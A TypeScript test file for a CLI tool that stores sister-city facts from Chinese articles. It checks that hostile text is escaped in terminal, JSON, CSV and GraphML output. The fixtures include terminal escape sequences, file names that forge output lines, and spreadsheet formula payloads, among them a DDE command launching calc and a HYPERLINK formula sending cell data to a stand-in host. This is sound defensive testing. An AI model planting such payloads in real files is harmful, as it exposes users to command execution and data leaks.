/**
 * Hostile text in what the command line prints and exports: a page title with terminal escapes, a
 * file name with a line break, names that a spreadsheet would run as formulas, names with
 * characters XML forbids. Real files and a real store, the CLI run through run().
 */
import { parse } from 'csv-parse/sync';
import { XMLParser, XMLValidator } from 'fast-xml-parser';
import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { addManualFact } from '../../src/store/manual.ts';
import { youcheng } from '../support/cli.ts';
import { ARTICLE_ID, articleStore, spanOf } from '../support/review-store.ts';

const tmp = mkdtempSync(join(tmpdir(), 'youcheng-hostile-'));
const ARTICLE = '湖州市与日本长野县轻井泽町缔结友好城市，双方在教育、文化等领域开展交流。目前湖州已与全球12个国家的20个城市建立友好关系。';
/** Sets the terminal's title, turns its text red, reverses what follows, and an 8-bit CSI. */
const TITLE = '湖州\x1b]0;pwned\x07\x1b[31m新闻\u202e\x9b31m';
/** A place name with characters XML forbids, and markup. */
const HOSTILE_NAME = '轻井泽\x01町\x1b[31m\r<&>"\'\x0c';
/** What must never reach a terminal raw. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what this looks for.
const RAW = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/;

describe('terminal output', () => {
  const dir = join(tmp, 'articles');
  mkdirSync(dir);
  writeFileSync(join(dir, 'page.html'), `<html><head><meta charset="utf-8"><title>${TITLE}</title></head><body><div class="content"><p>${ARTICLE}</p></div></body></html>`);
  // A file name with a line break that reads as the summary's first line, and a failing one that reads as its last.
  writeFileSync(join(dir, 'a\ndocuments: 99 new, 0 re-extracted.txt'), '湖州市与美国某某市缔结友好城市。'.repeat(3));
  writeFileSync(join(dir, 'b\nfacts stored: none.txt'), Buffer.alloc(300, 1));
  const db = join(tmp, 'terminal.db');

  it('escapes control characters in the summary, errors, facts and search, so no line is forged', async () => {
    const ingest = await youcheng(['ingest', dir, '--db', db]);
    expect(ingest.code).toBe(1);
    const lines = ingest.stdout.split('\n');
    expect(lines.filter((l) => l.startsWith('documents:'))).toEqual(['documents: 2 new, 0 re-extracted, 0 unchanged, 0 duplicates, 0 skipped, 1 failed']);
    expect(lines.filter((l) => l.startsWith('facts stored:'))).toHaveLength(1);
    // The failing file's name, in its one error line, with its line break shown as \n.
    expect(ingest.stderr).toBe(`error: ${dir}/b\\nfacts stored: none.txt: looks like a binary file, not text (it holds NUL or control bytes)\n`);

    for (const args of [['facts', '--all'], ['search', '湖州'], ['relationships', '--all'], ['places']]) {
      const r = await youcheng([...args, '--db', db]);
      expect(r.code).toBe(0);
      expect(`${r.stdout}${r.stderr}`).not.toMatch(RAW);
      if (args[0] === 'facts' || args[0] === 'search') expect(r.stdout).toContain('湖州\\x1b]0;pwned\\x07\\x1b[31m新闻\\u202e\\x9b31m');
      if (args[0] === 'facts') expect(r.stdout).toContain(`${dir}/a\\ndocuments: 99 new, 0 re-extracted.txt`);
    }
  });

  it('keeps JSON exact and free of raw C1 and bidi controls', async () => {
    for (const args of [
      ['facts', '--all', '--format', 'jsonl'],
      ['search', '湖州', '--format', 'jsonl'],
      ['export', '--all'],
      ['facts', '--all', '--format', 'json'],
    ]) {
      const r = await youcheng([...args, '--db', db]);
      expect(r.stdout).not.toMatch(RAW);
      expect(r.stdout).toContain('\\u202e\\u009b31m');
      const values = args.includes('json')
        ? JSON.parse(r.stdout)
        : r.stdout
            .trim()
            .split('\n')
            .map((l) => JSON.parse(l));
      expect(JSON.stringify(values)).toContain(JSON.stringify(TITLE).slice(1, -1));
    }
  });

  it('writes CSV as it is to a file or pipe, escaped to a terminal', async () => {
    const piped = await youcheng(['facts', '--all', '--format', 'csv', '--db', db]);
    expect(piped.stdout).toContain(TITLE);
    const terminal = await youcheng(['facts', '--all', '--format', 'csv', '--db', db], { tty: true });
    expect(terminal.stdout).not.toMatch(RAW);
    expect(terminal.stdout).toContain('湖州\\x1b]0;pwned');
  });
});

describe('spreadsheets', () => {
  it('prefixes a formula cell with a quote in every CSV export, numbers staying numbers', async () => {
    const { db, path } = articleStore(join(tmp, 'csv.db'));
    db.close();
    const { start, end } = spanOf('安吉县同轻井泽町的交往');
    const names = { a: '=HYPERLINK("http://example.com/?"&A1,"详情")', b: "+cmd|' /C calc'!A0" };
    const fields = { a: { name: names.a, country: '中国' }, b: { name: names.b, country: '@SUM(1+1)' }, relation: 'sister', since: null };
    const added = await youcheng(['add', '--force', '--db', path, '--doc', ARTICLE_ID, '--type', 'city_pair', '--start', String(start), '--end', String(end), '--fields', JSON.stringify(fields)], {
      env: { USER: 'tester' },
    });
    expect(added.code).toBe(0);

    const cells = async (...args: string[]) => {
      const r = await youcheng([...args, '--db', path]);
      expect(r.code).toBe(0);
      return parse(r.stdout, { columns: true }) as Record<string, string>[];
    };
    const facts = await cells('export', '--format', 'csv', '--method', 'manual');
    expect(facts[0]).toMatchObject({ a: `'${names.a}`, b: `'${names.b}`, b_country: "'@SUM(1+1)", start: '', confidence: '1' });
    const relationships = await cells('export', '--format', 'csv', '--what', 'relationships');
    expect(relationships.map((r) => [r.a, r.b])).toContainEqual([`'${names.a}`, `'${names.b}`]);
    const sql = await cells('sql', "SELECT '=1+2' AS formula, -3 AS n, '-3' AS text, '\t=1' AS tab", '--format', 'csv');
    expect(sql).toEqual([{ formula: "'=1+2", n: '-3', text: '-3', tab: "'\t=1" }]);
    for (const row of [...facts, ...relationships]) for (const v of Object.values(row)) expect(v).not.toMatch(/^[=+\-@\t\r](?!\d+(\.\d+)?$)/);
  });
});

describe('GraphML', () => {
  it('parses whatever the names hold: characters XML forbids are shown as escapes', async () => {
    const { db, path } = articleStore(join(tmp, 'graphml.db'));
    const { start, end } = spanOf('安吉县同轻井泽町的交往');
    const fields = { a: { name: '安吉', country: '中国' }, b: { name: '轻井泽', country: '日本' }, relation: 'sister', since: null };
    expect(addManualFact(db, { documentId: ARTICLE_ID, type: 'city_pair', span: { start, end }, fields, reviewer: 'tester' }).added).toBe('fact');
    // A name as a hostile page or an older store can hold it (`add` and the review page now refuse it).
    expect(db.prepare("UPDATE places SET name = ? WHERE name = '轻井泽'").run(HOSTILE_NAME).changes).toBe(1);
    db.close();

    const out = join(tmp, 'network.graphml');
    const r = await youcheng(['export', '--format', 'graphml', '--all', '--db', path, '--out', out]);
    expect(r).toMatchObject({ code: 0, stderr: `1 relationship(s) written to ${out}\n` });
    const xml = readFileSync(out, 'utf8');
    expect(XMLValidator.validate(xml)).toBe(true);
    expect(xml).toContain('<data key="name">轻井泽\\x01町\\x1b[31m&#13;&lt;&amp;&gt;&quot;&apos;\\x0c</data>');
    const graph = new XMLParser({ ignoreAttributes: false, attributeNamePrefix: '@', htmlEntities: true }).parse(xml).graphml.graph;
    const names = graph.node.map((n: { data: Array<{ '@key': string; '#text': string }> }) => n.data.find((d) => d['@key'] === 'name')?.['#text']);
    expect(names).toContain('轻井泽\\x01町\\x1b[31m\r<&>"\'\\x0c');
  });
});
